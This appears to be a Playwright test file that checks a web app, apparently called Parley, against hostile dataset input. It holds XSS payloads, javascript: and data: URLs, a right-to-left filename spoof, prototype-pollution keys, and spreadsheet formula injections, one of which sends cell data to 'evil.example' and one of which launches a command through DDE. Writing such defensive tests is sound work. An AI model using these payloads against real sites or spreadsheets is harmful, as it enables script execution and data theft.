/**
 * Hostile data through the real ways in (the file picker, a drop on the page, `?data=`, the
 * link's other parameters): markup, script URLs, right-to-left overrides and control
 * characters, 1 MB strings, nesting 100,000 deep, impossible numbers, prototype keys and
 * 100,000 actors. Each either gets a message naming what is wrong and where, or is shown as
 * plain text; the page stays usable; and nothing can run: every test fails on a dialog, a
 * popup, a navigation away, a Content Security Policy violation or a sentinel a payload sets.
 */
import { readFileSync } from 'node:fs';
import { DOMParser, type Element as XmlElement } from '@xmldom/xmldom';
import Papa from 'papaparse';
import { expect, test, type Page } from '@playwright/test';
import { validateDataset } from '../../src/lib/data/validation/validateDataset';
import { lintStandaloneSvg } from '../helpers/lintStandaloneSvg';
import { smallDataset } from '../fixtures/smallDataset';
import { gotoApp } from './app';
import { watchForErrors } from './pageErrors';

// Opening, checking in the worker and drawing can take a while on a busy machine.
test.describe.configure({ timeout: 90_000 });

const bundled = JSON.parse(readFileSync('data/events.json', 'utf8')) as {
	meta: { title: string };
	events: unknown[];
};

/** What a payload does when it runs: sets this global, or opens a dialog. */
const RAN = 'window.__pwned=1';
const MARKUP = [
	`<img src=x onerror="${RAN}">`,
	`<script>${RAN}</script>`,
	`<svg onload="${RAN}"><circle r="1"/></svg>`,
	`"><iframe src="javascript:parent.__pwned=1"></iframe>`,
	`<a href="javascript:alert(1)">click</a>`,
	`{@html '<b onmouseover=alert(1)>x</b>'} \${alert(1)} {{constructor.constructor('alert(1)')()}}`
];
const RLO = '\u202E';
const LRI = '\u2066';
const PDI = '\u2069';

type Data = ReturnType<typeof smallDataset>;

interface Watch {
	dialogs: string[];
	popups: string[];
	navigations: string[];
	errors: string[];
}

/**
 * Listens for everything a payload could do. Call before the first navigation; `expectNothingRan`
 * at the end of the test.
 */
async function watch(page: Page): Promise<Watch> {
	const seen: Watch = { dialogs: [], popups: [], navigations: [], errors: watchForErrors(page) };
	await page.addInitScript(() => {
		const violations: string[] = [];
		(window as unknown as { __cspViolations: string[] }).__cspViolations = violations;
		document.addEventListener('securitypolicyviolation', (event) =>
			violations.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`)
		);
		// The app's own scripts, there before any data is read.
		document.addEventListener('DOMContentLoaded', () => {
			(window as unknown as { __ownScripts: Set<Element> }).__ownScripts = new Set(
				document.scripts
			);
		});
	});
	page.on('dialog', (dialog) => {
		seen.dialogs.push(dialog.message());
		void dialog.dismiss();
	});
	page.on('popup', (popup) => seen.popups.push(popup.url()));
	page.on('framenavigated', (frame) => {
		if (frame !== page.mainFrame()) {
			seen.navigations.push(`a frame opened ${frame.url()}`);
			return;
		}
		// The app's own: its one page, whatever the query (history entries it writes itself).
		const url = new URL(frame.url());
		if (url.host !== new URL(test.info().project.use.baseURL!).host || url.pathname !== '/') {
			seen.navigations.push(frame.url());
		}
	});
	return seen;
}

async function expectNothingRan(page: Page, seen: Watch) {
	// An injected <img onerror> would fire once its request fails: give it a moment.
	await page.waitForTimeout(300);
	const inPage = await page.evaluate(() => {
		const own = (window as unknown as { __ownScripts: Set<Element> }).__ownScripts;
		const live = [...document.querySelectorAll('body *')].filter(
			(element) =>
				(element.tagName === 'SCRIPT' && !own.has(element)) ||
				['IMG', 'IFRAME', 'OBJECT', 'EMBED', 'FRAME'].includes(element.tagName) ||
				[...element.attributes].some(
					(a) => a.name.startsWith('on') || /^\s*(javascript|vbscript|data):/i.test(a.value)
				)
		);
		return {
			pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
			violations: (window as unknown as { __cspViolations: string[] }).__cspViolations,
			live: live.map((element) => element.outerHTML.slice(0, 120)),
			polluted: ({} as Record<string, unknown>).polluted ?? null
		};
	});
	expect(inPage).toEqual({ pwned: null, violations: [], live: [], polluted: null });
	expect(seen).toEqual({ dialogs: [], popups: [], navigations: [], errors: [] });
}

const rows = (page: Page) => page.locator('table.events tbody tr[data-event-id]');
const picker = (page: Page) => page.getByLabel(/Dataset files/);
const alert = (page: Page) => page.getByRole('alert');
const heading = (page: Page) => page.getByRole('heading', { level: 1 });

async function openBundled(page: Page, query = '') {
	await gotoApp(page, `/${query}`);
	await expect(heading(page)).toHaveText(bundled.meta.title);
}

function jsonFile(name: string, value: unknown) {
	return { name, mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(value)) };
}

function textFile(name: string, text: string) {
	return { name, mimeType: 'application/json', buffer: Buffer.from(text) };
}

/** Drops files on the page, as a person dragging them from the desktop would. */
async function drop(page: Page, files: { name: string; text: string }[]) {
	const dataTransfer = await page.evaluateHandle((list) => {
		const transfer = new DataTransfer();
		for (const file of list) transfer.items.add(new File([file.text], file.name));
		return transfer;
	}, files);
	await page.dispatchEvent('main', 'dragenter', { dataTransfer });
	await page.dispatchEvent('main', 'dragover', { dataTransfer });
	await page.dispatchEvent('main', 'drop', { dataTransfer });
}

/** The dataset shown can still be filtered, and an event opened and closed. */
async function expectUsable(page: Page, shown: number) {
	await expect(rows(page)).toHaveCount(shown);
	const search = page.getByRole('searchbox', { name: 'Search' });
	await search.fill('zzzz-matches-nothing');
	await expect(rows(page)).toHaveCount(0);
	await search.fill('');
	await expect(rows(page)).toHaveCount(shown);
	await rows(page).first().locator('button.open').click();
	await expect(page.getByRole('dialog')).toBeVisible();
	await page.keyboard.press('Escape');
	await expect(page.getByRole('dialog')).toHaveCount(0);
}

/** After a refused file: its problems are listed, and the bundled dataset is still shown. */
async function expectRefused(page: Page, ...texts: string[]) {
	const problems = alert(page);
	await expect(problems).toContainText('could not be opened', { timeout: 30_000 });
	await expect(problems).toContainText('events.json is still shown');
	for (const text of texts) await expect(problems).toContainText(text);
	await expect(heading(page)).toHaveText(bundled.meta.title);
}

/** A valid dataset with markup in every text field a person sees. */
function markupDataset(): Data {
	const data = smallDataset();
	delete data.sources[0]!.text; // quotes are markup now, not in the stored article
	data.meta.title = `Talks ${MARKUP[0]}`;
	data.meta.description = MARKUP.join(' ');
	data.meta.license = MARKUP[1]!;
	data.sources[0]!.outlet = MARKUP[1]!;
	data.sources[0]!.title = MARKUP[2]!;
	data.sources[0]!.url = `https://example.org/news/1?x="><script>${RAN}</script>`;
	data.sources[0]!.publishedAtNote = MARKUP[3];
	data.actors.forEach((actor, i) => {
		actor.name = `${actor.name} ${MARKUP[i % MARKUP.length]}`.slice(0, 200);
		actor.role = MARKUP[(i + 1) % MARKUP.length];
	});
	data.actors[0]!.aliases = [MARKUP[4]!];
	data.events.forEach((event, i) => {
		event.summary = `${MARKUP[i % MARKUP.length]} ${event.summary}`;
		event.evidence[0]!.quote = MARKUP[(i + 2) % MARKUP.length]!;
		event.type.cameoLabel = MARKUP[(i + 3) % MARKUP.length]!;
		event.date.note = MARKUP.join(' ');
		event.confidence = 'low';
		event.confidenceNote = MARKUP[5];
		event.tags = [MARKUP[0]!];
	});
	// Formulas for a spreadsheet program, in cells of both CSV files.
	data.events[0]!.summary = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
	data.actors[1]!.name = "@SUM(1+1)*cmd|' /C calc'!A0";
	data.actors[1]!.role = '+1-1';
	data.events[1]!.tags = ['-2+3'];
	return data;
}

/** Elements and attributes of an SVG file that could run or load something. */
function liveMarkupIn(svgText: string): string[] {
	const doc = new DOMParser().parseFromString(svgText, 'image/svg+xml');
	const found: string[] = [];
	const visit = (element: XmlElement) => {
		const name = (element.localName ?? element.nodeName).toLowerCase();
		if (['script', 'foreignobject', 'iframe', 'img', 'image', 'object', 'embed'].includes(name)) {
			found.push(`<${name}>`);
		}
		for (let i = 0; i < element.attributes.length; i++) {
			const attribute = element.attributes.item(i)!;
			if (/^on/i.test(attribute.localName ?? attribute.name))
				found.push(`${name} ${attribute.name}`);
			if (/href$/i.test(attribute.name) && !attribute.value.startsWith('#')) {
				found.push(`${name} ${attribute.name}="${attribute.value}"`);
			}
		}
		for (let i = 0; i < element.childNodes.length; i++) {
			const child = element.childNodes.item(i)!;
			if (child.nodeType === 1) visit(child as XmlElement);
		}
	};
	visit(doc.documentElement!);
	return found;
}

async function download(page: Page, group: string, button: string) {
	const [file] = await Promise.all([
		page.waitForEvent('download'),
		page.getByRole('group', { name: group }).getByRole('button', { name: button }).click()
	]);
	return readFileSync(await file.path(), 'utf8');
}

test('markup in every text field is shown as text, never run, and exported without live markup', async ({
	page
}) => {
	const seen = await watch(page);
	const data = markupDataset();
	await openBundled(page);
	await picker(page).setInputFiles(jsonFile('markup.json', data));
	await expect(heading(page)).toHaveText(data.meta.title, { timeout: 30_000 });
	await expect(page.locator('[data-dataset-origin="opened"]')).toContainText('markup.json');
	for (const event of data.events) {
		await expect(page.locator(`tr[data-event-id="${event.id}"] .summary`)).toHaveText(
			event.summary
		);
	}
	// The detail panel: summary, label, names, roles, notes and quotes, all as text.
	await page.locator(`tr[data-event-id="${data.events[1]!.id}"] button.open`).click();
	const detail = page.getByRole('dialog');
	await expect(detail.getByRole('heading', { level: 2 })).toHaveText(data.events[1]!.summary);
	await expect(detail).toContainText(data.events[1]!.type.cameoLabel);
	await expect(detail).toContainText(data.events[1]!.evidence[0]!.quote!);
	await expect(detail).toContainText(data.events[1]!.confidenceNote!);
	await expect(detail.locator('a[href]').first()).toHaveAttribute('href', /^https:\/\//);
	await page.keyboard.press('Escape');
	await expectUsable(page, data.events.length);

	// SVG: no script, no event handler, no script address; the markup is escaped text.
	for (const chart of ['timeline', 'mediation network']) {
		const svg = await download(page, `Export the ${chart}`, 'Export SVG');
		expect(lintStandaloneSvg(svg)).toEqual([]);
		expect(liveMarkupIn(svg), chart).toEqual([]);
		expect(svg).toContain('&lt;img src=x onerror=');
	}

	// CSV: no cell a spreadsheet would run as a formula (numbers such as -74.07 are not formulas).
	for (const table of ['Events CSV', 'Actors CSV']) {
		const csv = await download(page, 'Export data', table);
		const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data.flat();
		const formulas = cells.filter(
			(cell) => /^[=+\-@\t\r]/.test(cell) && !/^[-+]?\d+(\.\d+)?$/.test(cell)
		);
		expect(formulas, table).toEqual([]);
		expect(cells.some((cell) => cell.startsWith("'="))).toBe(table === 'Events CSV');
	}

	// JSON: the same text, as data, and still a valid dataset.
	const exported = JSON.parse(await download(page, 'Export data', 'Export data (JSON)')) as Data;
	expect(validateDataset(exported).errors).toEqual([]);
	expect(exported.events.map((e) => e.summary)).toEqual(data.events.map((e) => e.summary));
	expect(exported.actors.map((a) => a.name)).toEqual(data.actors.map((a) => a.name));
	await expectNothingRan(page, seen);
});

test('script addresses in every URL field are refused, each named with its place', async ({
	page
}) => {
	const seen = await watch(page);
	const data = smallDataset();
	delete data.sources[0]!.text;
	const schemes = [
		`javascript:${RAN}`,
		'data:text/html,<script>alert(1)</script>',
		'vbscript:msgbox(1)',
		` JaVaScRiPt:alert(1)`,
		'java\tscript:alert(1)'
	];
	data.sources[0]!.url = schemes[0]!;
	for (const [i, url] of schemes.slice(1).entries()) {
		data.sources.push({ ...data.sources[0]!, id: `extra-${i}`, url });
	}
	data.meta.codebooks = [{ id: 'CAMEO', version: '1.1b3', url: schemes[1]! }];
	await openBundled(page);
	await drop(page, [{ name: 'schemes.json', text: JSON.stringify(data) }]);
	await expectRefused(
		page,
		'meta.codebooks[0].url',
		'sources[0].url',
		'sources[1].url',
		'sources[2].url',
		'sources[3].url',
		'sources[4].url',
		'is not an http(s) URL'
	);
	await expectUsable(page, bundled.events.length);
	await expectNothingRan(page, seen);
});

/**
 * Whether the characters of `phrase`, inside `scope`, are laid out left to right (as Parley's
 * own English text must be), or were reordered by text around them.
 */
async function readsLeftToRight(page: Page, scope: string, phrase: string): Promise<boolean> {
	return page.evaluate(
		([selector, words]) => {
			const root = document.querySelector(selector);
			if (!root) throw new Error(`no ${selector}`);
			const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
			while (walker.nextNode()) {
				const node = walker.currentNode as Text;
				const start = node.data.indexOf(words);
				if (start < 0) continue;
				const lefts: number[] = [];
				for (let i = start; i < start + words.length; i++) {
					if (words[i - start] === ' ') continue;
					const range = document.createRange();
					range.setStart(node, i);
					range.setEnd(node, i + 1);
					lefts.push(range.getBoundingClientRect().left);
				}
				return lefts.every((left, i) => i === 0 || left > lefts[i - 1]!);
			}
			throw new Error(`"${words}" is not in ${selector}`);
		},
		[scope, phrase] as const
	);
}

test('right-to-left overrides in names cannot reorder the sentences around them', async ({
	page
}) => {
	const seen = await watch(page);
	await openBundled(page);
	// The check itself: unisolated, an override does reverse the words after it.
	await page.evaluate((rlo) => {
		const p = document.createElement('p');
		p.id = 'unisolated';
		p.textContent = `Showing ${rlo}evil.json, opened from a file`;
		document.body.append(p);
	}, RLO);
	expect(await readsLeftToRight(page, '#unisolated', 'opened from a file')).toBe(false);
	await page.evaluate(() => document.getElementById('unisolated')?.remove());

	// A refused file whose name carries an override: the alert's own sentence reads in order.
	const data = smallDataset();
	delete data.sources[0]!.text;
	data.events[0]!.summary = `bell\u0007 and backspace\u0008`;
	data.actors[1]!.name = `tab\tis fine but escape \u001B is not`;
	await picker(page).setInputFiles(jsonFile(`report${RLO}nosj.exe.json`, data));
	await expectRefused(
		page,
		'events[0].summary',
		'actors[1].name',
		'contains a control character; remove it'
	);
	expect(await readsLeftToRight(page, '[data-problem-list] h2', 'could not be opened')).toBe(true);

	// A dataset that opens, with overrides and stray isolates in names, roles and its file name.
	const rtl = smallDataset();
	delete rtl.sources[0]!.text;
	rtl.actors[1]!.name = `${RLO}yawroN`;
	rtl.actors[4]!.name = `${PDI}${RLO}laiciffo nabuC`;
	rtl.actors[4]!.role = `${LRI}${RLO}Spokesperson`;
	rtl.sources[0]!.outlet = `${PDI}${RLO}eriW elpmaxE`;
	rtl.meta.title = `${RLO}sklaT`;
	await picker(page).setInputFiles(jsonFile(`rtl${RLO}nosj.json`, rtl));
	await expect(heading(page)).toHaveText(rtl.meta.title, { timeout: 30_000 });
	// The window title: the dataset's title isolated (and its override closed) before " · Parley".
	expect(await page.title()).toBe(`\u2068${RLO}sklaT\u202C\u2069 · Parley`);
	const origin = '[data-dataset-origin="opened"]';
	expect(await readsLeftToRight(page, origin, 'opened from a file')).toBe(true);
	await expect(page.locator(`${origin} bdi`)).toHaveText(`rtl${RLO}nosj.json\u202C`);
	expect(await readsLeftToRight(page, 'section.dataset', 'Drawn from')).toBe(true);
	expect(await readsLeftToRight(page, 'section.dataset .published', ', 20 Feb 2023')).toBe(true);
	// The table: each actor in the joined cell isolated, so "Cuba" after an overridden
	// "Norway" still reads in order, and the override does not reach the next name.
	const mediators = 'tr[data-event-id="havana-round"] td.who div:nth-child(2) dd';
	await expect(page.locator(mediators).locator('bdi')).toHaveText([`${RLO}yawroN\u202C`, 'Cuba']);
	expect(await readsLeftToRight(page, mediators, 'Cuba')).toBe(true);
	// The detail panel: the person's state after the name, and the source line, read in order.
	await page.locator('tr[data-event-id] button.open').last().click();
	const detail = '[data-event-detail]';
	await expect(page.locator(detail)).toBeVisible();
	expect(await readsLeftToRight(page, `${detail} figcaption`, ', 20 Feb 2023')).toBe(true);
	await expectNothingRan(page, seen);
});

test('1 MB strings (summary, quote, actor name) through ?data= get short messages naming each place', async ({
	page
}) => {
	const seen = await watch(page);
	const data = smallDataset();
	const big = 'A'.repeat(1 << 20);
	data.events[0]!.summary = big;
	data.events[0]!.evidence[0]!.quote = `<script>${RAN}</script>${big}`;
	data.actors[0]!.name = big;
	(data.meta as Record<string, unknown>)[`${RLO}${'k'.repeat(1 << 20)}`] = big;
	await page.route('**/hostile/big.json', (route) =>
		route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify(data) })
	);
	await openBundled(page, '?data=hostile/big.json');
	await expectRefused(
		page,
		'events[0].summary: the summary is 1048576 characters long; the limit is 600',
		`events[0].evidence[0].quote: the quote is ${(1 << 20) + `<script>${RAN}</script>`.length} characters long; the limit is 400`,
		'actors[0].name: the name is 1048576 characters long; the limit is 200'
	);
	// Every line of the list stays short, whatever the file held.
	const lines = await alert(page).locator('li').allTextContents();
	for (const line of lines) expect(line.length).toBeLessThan(300);
	await expectUsable(page, bundled.events.length);
	await expectNothingRan(page, seen);
});

test('JSON nested 100,000 levels deep is refused with a message, never a stack overflow', async ({
	page
}) => {
	const seen = await watch(page);
	const deep = (open: string, middle: string, close: string) =>
		open.repeat(100_000) + middle + close.repeat(100_000);
	const valid = smallDataset();
	delete valid.sources[0]!.text;
	const cases = [
		{ name: 'arrays.json', text: deep('[', '', ']'), says: 'this JSON is a list, not a dataset' },
		{
			name: 'objects.json',
			text: deep('{"a":', '1', '}'),
			says: 'this JSON is not a Parley dataset: it has the fields a'
		},
		{
			name: 'unclosed.json',
			text: '['.repeat(100_000),
			says: 'nested more than 512 levels deep at line 1, column 513'
		},
		{
			name: 'inside.json',
			text: JSON.stringify(valid).replace('"meta":{', `"meta":{"extra":${deep('[', '', ']')},`),
			says: 'meta.extra: unknown field nested more than 32 levels deep'
		}
	];
	await openBundled(page);
	for (const item of cases) {
		await picker(page).setInputFiles(textFile(item.name, item.text));
		await expect(alert(page)).toContainText(`${item.name} could not be opened`, {
			timeout: 30_000
		});
		await expectRefused(page, item.says);
	}
	await expectUsable(page, bundled.events.length);
	await expectNothingRan(page, seen);
});

test('impossible numbers are refused with their place: 1e400, -1e999, NaN, 100,000 digits', async ({
	page
}) => {
	const seen = await watch(page);
	const text = JSON.stringify(smallDataset())
		.replace('"lat":4.711', '"lat":1e400')
		.replace('"lon":-74.0721', '"lon":-1e999')
		.replace('"lat":23.1136', `"lat":${'9'.repeat(100_000)}`);
	await openBundled(page);
	await picker(page).setInputFiles(textFile('numbers.json', text));
	await expectRefused(
		page,
		'actors[5].lat: latitude Infinity is out of range (-90 to 90)',
		'actors[5].lon: longitude -Infinity is out of range (-180 to 180)',
		'actors[6].lat: latitude Infinity is out of range'
	);
	await picker(page).setInputFiles(
		textFile('nan.json', JSON.stringify(smallDataset()).replace('"lat":4.711', '"lat":NaN'))
	);
	await expectRefused(page, 'nan.json', 'not valid JSON at line 1, column');
	await expectUsable(page, bundled.events.length);
	await expectNothingRan(page, seen);
});

test('fields named __proto__, constructor or toString pollute nothing: left out with a warning', async ({
	page
}) => {
	const seen = await watch(page);
	const data = smallDataset();
	delete data.sources[0]!.text;
	const text = JSON.stringify(data)
		.replace(
			'"meta":{',
			'"meta":{"__proto__":{"polluted":1,"title":"polluted"},"constructor":{"prototype":{"polluted":1}},'
		)
		.replace('"id":"col",', '"id":"col","__proto__":{"name":"polluted"},"toString":"x",');
	await openBundled(page);
	await picker(page).setInputFiles(textFile('proto.json', text));
	await expect(heading(page)).toHaveText(data.meta.title, { timeout: 30_000 });
	const warnings = page.locator('[data-problem-list]');
	for (const path of ['meta.__proto__', 'meta.constructor', 'actors[0].__proto__']) {
		await expect(warnings).toContainText(path);
	}
	await expect(warnings).toContainText('reserved name');
	await expect(page.getByRole('button', { name: 'Colombia' }).first()).toBeVisible();
	await expectUsable(page, data.events.length);
	await expectNothingRan(page, seen);
});

// 100,000 actors (most of them people of 10,000 states): checked in the worker, then every
// view has to cope with them; the event list, a filter and the detail panel must still work.
test('a dataset with 100,000 actors opens, filters and opens an event', async ({ page }) => {
	const seen = await watch(page);
	const data = smallDataset();
	delete data.sources[0]!.text;
	for (let i = 0; i < 100_000; i++) {
		data.actors.push({
			id: `actor-${i}`,
			name: `Actor ${i} <b>${i}</b>`,
			kind: i % 10 === 0 ? 'state' : 'person',
			...(i % 10 === 0 ? {} : { memberOf: [`actor-${i - (i % 10)}`] })
		});
	}
	data.events[0]!.targetActors.push('actor-99990', 'actor-5');
	await openBundled(page);
	await picker(page).setInputFiles(jsonFile('crowd.json', data));
	await expect(heading(page)).toHaveText(data.meta.title, { timeout: 60_000 });
	await expect(page.locator('[data-dataset-origin="opened"]')).toContainText('crowd.json');
	await expectUsable(page, data.events.length);
	await expectNothingRan(page, seen);
});

const HOSTILE_QUERIES = [
	{ query: `?data=${encodeURIComponent(`javascript:${RAN}`)}`, says: 'only http(s) addresses' },
	{
		query: `?data=${encodeURIComponent('data:application/json,{"schemaVersion":"1.0"}')}`,
		says: 'only http(s) addresses'
	},
	{ query: `?data=${encodeURIComponent('vbscript:msgbox(1)')}`, says: 'only http(s) addresses' },
	{
		query: `?data=${encodeURIComponent(`  JavaScript:alert(1)`)}`,
		says: 'only http(s) addresses'
	}
];

for (const { query, says } of HOSTILE_QUERIES) {
	test(`?data= with a script address (${decodeURIComponent(query).slice(6, 26)}) is refused and never followed`, async ({
		page
	}) => {
		const seen = await watch(page);
		await gotoApp(page, `/${query}`);
		await expectRefused(page, says);
		await expectUsable(page, bundled.events.length);
		await expectNothingRan(page, seen);
	});
}

test('hostile link parameters: an enormous ?q=, markup and overrides in ?event= and ?actors=', async ({
	page
}) => {
	const seen = await watch(page);
	// ~9 KB: as long as a web server takes (Node's limit for the whole request head is 16 KB).
	const q = encodeURIComponent(`<img src=x onerror="${RAN}">`.repeat(150));
	const event = encodeURIComponent(`<script>${RAN}</script>`);
	const actors = encodeURIComponent(`${RLO}nari,<svg onload=alert(1)>`);
	await gotoApp(page, `/?q=${q}&event=${event}&actors=${actors}&window=${'9'.repeat(1000)}`);
	const notice = page.locator('[data-notice]');
	await expect(notice).toContainText('the search was cut to 200 characters');
	await expect(notice).toContainText(`the event “<script>${RAN}</script>” is not in this dataset`);
	await expect(notice).toContainText('<svg onload=alert(1)>');
	await expect(notice).toContainText('the time window');
	const search = page.getByRole('searchbox', { name: 'Search' });
	await expect(search).toHaveValue(decodeURIComponent(q).slice(0, 200));
	expect(await readsLeftToRight(page, '[data-notice]', 'are not known and were left out')).toBe(
		true
	);
	await page.getByRole('button', { name: 'Dismiss' }).first().click();
	await search.fill('');
	await expectUsable(page, bundled.events.length);
	await expectNothingRan(page, seen);
});
